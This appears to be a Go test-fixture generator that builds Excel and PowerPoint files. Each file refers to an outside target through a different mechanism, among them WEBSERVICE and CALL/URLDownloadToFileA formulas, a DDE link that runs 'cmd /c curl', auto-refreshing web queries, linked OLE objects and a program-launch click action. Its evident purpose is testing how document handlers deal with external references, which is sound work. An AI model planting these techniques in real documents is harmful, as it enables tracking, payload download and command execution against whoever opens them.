package hostile

import (
	"fmt"
	"strings"

	"xietong.dev/test/documents/parts"
)

func bookReference(kind string, image bool, fill func(b *parts.Book, s *parts.Sheet, target string)) reference {
	return reference{kind, "xlsx", image, func(target string) []byte {
		b := &parts.Book{Title: "附件"}
		s := b.Sheet("Sheet1")
		s.Row("请查收附件。")
		fill(b, s, target)
		return b.Bytes()
	}}
}

// byFormula leads elsewhere by a formula.
func byFormula(kind, format string) reference {
	return bookReference(kind, false, func(_ *parts.Book, s *parts.Sheet, target string) {
		s.Row(parts.Formula{Text: fmt.Sprintf(format, target)})
	})
}

// outside puts a part into a workbook that refers to something elsewhere.
func outside(b *parts.Book, name, kind, relation, way, target, format string) {
	id := b.RelateExternal("xl/"+name, relation, target)
	b.AddXML("xl/"+name, parts.OfficeXML+"spreadsheetml."+kind+"+xml", fmt.Sprintf(format, id))
	id = b.Relate("xl/workbook.xml", way, name)
	if way == "externalLink" {
		b.More = `<externalReferences><externalReference r:id="` + id + `"/></externalReferences>`
	}
}

const externalLink = `<externalLink ` + spreadsheet + ` xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">%s</externalLink>`

// connected has a connection, and a table that is filled from it on opening.
func connected(kind, connection string) reference {
	return bookReference(kind, false, func(b *parts.Book, s *parts.Sheet, target string) {
		b.AddXML("xl/connections.xml", parts.OfficeXML+"spreadsheetml.connections+xml", `<connections `+spreadsheet+`>`+fmt.Sprintf(connection, parts.Escape(target))+`</connections>`)
		b.Relate("xl/workbook.xml", "connections", "connections.xml")
		b.AddXML("xl/queryTables/queryTable1.xml", parts.OfficeXML+"spreadsheetml.queryTable+xml", `<queryTable `+spreadsheet+` name="a" refreshOnLoad="1" connectionId="1"/>`)
		s.Relate("queryTable", "../queryTables/queryTable1.xml")
		b.Names = `<definedName name="a" localSheetId="0">Sheet1!$A$1:$B$2</definedName>`
	})
}

func (m *maker) bookReferences() {
	m.references([]reference{
		byFormula("WEBSERVICE", `WEBSERVICE("%s")`), byFormula("WEBSERVICE, with its prefix", `_xlfn.WEBSERVICE("%s")`), byFormula("FILTERXML of WEBSERVICE", `_xlfn.FILTERXML(_xlfn.WEBSERVICE("%s"),"//a")`),
		byFormula("IMAGE", `_xlfn.IMAGE("%s")`), byFormula("HYPERLINK", `HYPERLINK("%s","点击")`), byFormula("cell of another book", `'[%s]Sheet1'!A1`), byFormula("DDE by formula", `DDE("soffice","%s","a1")`),
		byFormula("RTD", `RTD("a.b","","%s")`), byFormula("CALL", `CALL("urlmon","URLDownloadToFileA","JCCJJ",0,"%s","a",0,0)`),
		bookReference("book linked to", false, func(b *parts.Book, s *parts.Sheet, target string) {
			outside(b, "externalLinks/externalLink1.xml", "externalLink", "externalLinkPath", "externalLink", target, fmt.Sprintf(externalLink, `<externalBook r:id="%s"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>`))
			s.Row(parts.Formula{Text: "[1]Sheet1!A1"})
		}),
		bookReference("dde link", false, func(b *parts.Book, s *parts.Sheet, target string) {
			outside(b, "externalLinks/externalLink1.xml", "externalLink", "externalLinkPath", "externalLink", target, fmt.Sprintf(externalLink, `<ddeLink ddeService="cmd" ddeTopic="/c curl `+parts.Escape(target)+`"><!--%s--><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>`))
			s.Row(parts.Formula{Text: "[1]!A0"})
		}),
		bookReference("ole link", false, func(b *parts.Book, s *parts.Sheet, target string) {
			outside(b, "externalLinks/externalLink1.xml", "externalLink", "oleObject", "externalLink", target, fmt.Sprintf(externalLink, `<oleLink r:id="%s" progId="Word.Document.12"><oleItems><oleItem name="a" advise="1"/></oleItems></oleLink>`))
			s.Row(parts.Formula{Text: "[1]!a"})
		}),
		connected("web query", `<connection id="1" name="a" type="4" refreshOnLoad="1"><webPr url="%s"/></connection>`),
		connected("database", `<connection id="1" name="a" type="5" refreshOnLoad="1"><dbPr connection="Provider=MSDASQL;Data Source=%s" command="select 1"/></connection>`),
		connected("text import", `<connection id="1" name="a" type="6" refreshOnLoad="1"><textPr sourceFile="%s"/></connection>`),
		bookReference("pivot table of another book", false, func(b *parts.Book, s *parts.Sheet, target string) {
			id := b.RelateExternal("xl/pivotCache/pivotCacheDefinition1.xml", "externalLinkPath", target)
			b.AddXML("xl/pivotCache/pivotCacheDefinition1.xml", parts.OfficeXML+"spreadsheetml.pivotCacheDefinition+xml", `<pivotCacheDefinition `+spreadsheet+` xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="Sheet1" r:id="`+id+`"/></cacheSource><cacheFields count="0"/></pivotCacheDefinition>`)
			b.More = `<pivotCaches><pivotCache cacheId="1" r:id="` + b.Relate("xl/workbook.xml", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml") + `"/></pivotCaches>`
		}),
		bookReference("linked picture", true, func(b *parts.Book, s *parts.Sheet, target string) {
			id := b.RelateExternal("xl/drawings/drawing1.xml", "image", target)
			s.Drawing(`<xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>5</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>15</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>` + parts.Pic("xdr", `r:link="`+id+`"`) + `<xdr:clientData/></xdr:twoCellAnchor>`)
		}),
		bookReference("sheet background", true, func(_ *parts.Book, s *parts.Sheet, target string) {
			s.After = `<picture r:id="` + s.RelateExternal("image", target) + `"/>`
		}),
		bookReference("linked object", false, func(_ *parts.Book, s *parts.Sheet, target string) {
			s.After = `<oleObjects><oleObject progId="Word.Document.12" link="[1]!''''" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025" r:id="` + s.RelateExternal("oleObject", target) + `"/></oleObjects>`
		}),
		bookReference("picture of a header", false, func(b *parts.Book, s *parts.Sheet, target string) {
			name := "xl/drawings/vmlDrawing1.vml"
			id := b.RelateExternal(name, "image", target)
			b.Add(name, "", []byte(`<xml `+parts.WordXML+`><v:shape id="CH" style="width:90pt;height:60pt"><v:imagedata o:relid="`+id+`"/></v:shape></xml>`))
			s.After = `<headerFooter><oddHeader>&amp;C&amp;G</oddHeader></headerFooter><legacyDrawingHF r:id="` + s.Relate("vmlDrawing", "../drawings/vmlDrawing1.vml") + `"/>`
		}),
		bookReference("sheet that lies elsewhere", false, func(b *parts.Book, _ *parts.Sheet, target string) {
			b.RelateExternal("xl/workbook.xml", "worksheet", target)
		}),
		bookReference("strings that lie elsewhere", false, func(b *parts.Book, _ *parts.Sheet, target string) {
			b.RelateExternal("xl/workbook.xml", "sharedStrings", target)
		}),
		bookReference("link of a cell", false, func(_ *parts.Book, s *parts.Sheet, target string) {
			s.After = `<hyperlinks><hyperlink ref="A1" r:id="` + s.RelateExternal("hyperlink", target) + `"/></hyperlinks>`
		}),
	})
}

func deckReference(kind string, image bool, shape func(d *parts.Deck, target string) string) reference {
	return reference{kind, "pptx", image, func(target string) []byte {
		d := &parts.Deck{Title: "附件"}
		d.Slide("", parts.Heading("请查收附件。"), shape(d, target))
		return d.Bytes()
	}}
}

// media is a picture that stands for something that plays.
func media(kind, relation, inside string) reference {
	return deckReference(kind, false, func(d *parts.Deck, target string) string {
		shown := d.Image("png", parts.PNG(parts.Drawing(20, 20, 4)))
		return strings.Replace(shown, `<p:nvPr/>`, `<p:nvPr>`+fmt.Sprintf(inside, d.RelateExternal(d.Part(), relation, target))+`</p:nvPr>`, 1)
	})
}

func (m *maker) deckReferences() {
	m.references([]reference{
		deckReference("linked picture", true, func(d *parts.Deck, target string) string {
			return parts.Pic("p", `r:link="`+d.RelateExternal(d.Part(), "image", target)+`"`)
		}),
		deckReference("embedded picture that lies elsewhere", true, func(d *parts.Deck, target string) string {
			return parts.Pic("p", `r:embed="`+d.RelateExternal(d.Part(), "image", target)+`"`)
		}),
		deckReference("fill of a shape", true, func(d *parts.Deck, target string) string {
			id := d.RelateExternal(d.Part(), "image", target)
			return strings.Replace(parts.Shape("rect", "", parts.Box{X: 20, Y: 60, Width: 80, Height: 60}, `<a:p/>`), `<a:noFill/>`, `<a:blipFill><a:blip r:link="`+id+`"/><a:stretch><a:fillRect/></a:stretch></a:blipFill>`, 1)
		}),
		deckReference("bullet", false, func(d *parts.Deck, target string) string {
			id := d.RelateExternal(d.Part(), "image", target)
			return parts.Shape("rect", "", parts.Box{X: 20, Y: 60, Width: 80, Height: 60}, `<a:p><a:pPr marL="342900" indent="-342900"><a:buBlip><a:blip r:link="`+id+`"/></a:buBlip></a:pPr><a:r><a:t>项目</a:t></a:r></a:p>`)
		}),
		media("video", "video", `<a:videoFile r:link="%s"/>`), media("audio", "audio", `<a:audioFile r:link="%s"/>`), media("sound", "audio", `<a:wavAudioFile r:embed="%s" name="a"/>`),
		media("quick time", "video", `<a:quickTimeFile r:link="%s"/>`),
		deckReference("linked object", false, func(d *parts.Deck, target string) string {
			id := d.RelateExternal(d.Part(), "oleObject", target)
			return `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="8" name="a"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="900000" y="1700000"/><a:ext cx="3000000" cy="2000000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="a" r:id="` + id + `" imgW="100" imgH="100" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`
		}),
		deckReference("program on a click", false, func(d *parts.Deck, target string) string {
			id := d.RelateExternal(d.Part(), "hyperlink", target)
			return parts.Shape("rect", "FFC000", parts.Box{X: 20, Y: 60, Width: 80, Height: 60}, `<a:p><a:r><a:rPr><a:hlinkClick r:id="`+id+`" action="ppaction://program"/></a:rPr><a:t>下一步</a:t></a:r></a:p>`)
		}),
		deckReference("chart that lies elsewhere", false, func(d *parts.Deck, target string) string {
			id := d.RelateExternal(d.Part(), "chart", target)
			return `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="8" name="a"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="900000" y="1700000"/><a:ext cx="3000000" cy="2000000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="` + id + `"/></a:graphicData></a:graphic></p:graphicFrame>`
		}),
		deckReference("slide that lies elsewhere", false, func(d *parts.Deck, target string) string {
			d.RelateExternal("ppt/presentation.xml", "slide", target)
			return ""
		}),
		deckReference("master that lies elsewhere", false, func(d *parts.Deck, target string) string {
			d.RelateExternal("ppt/presentation.xml", "slideMaster", target)
			return ""
		}),
	})
}
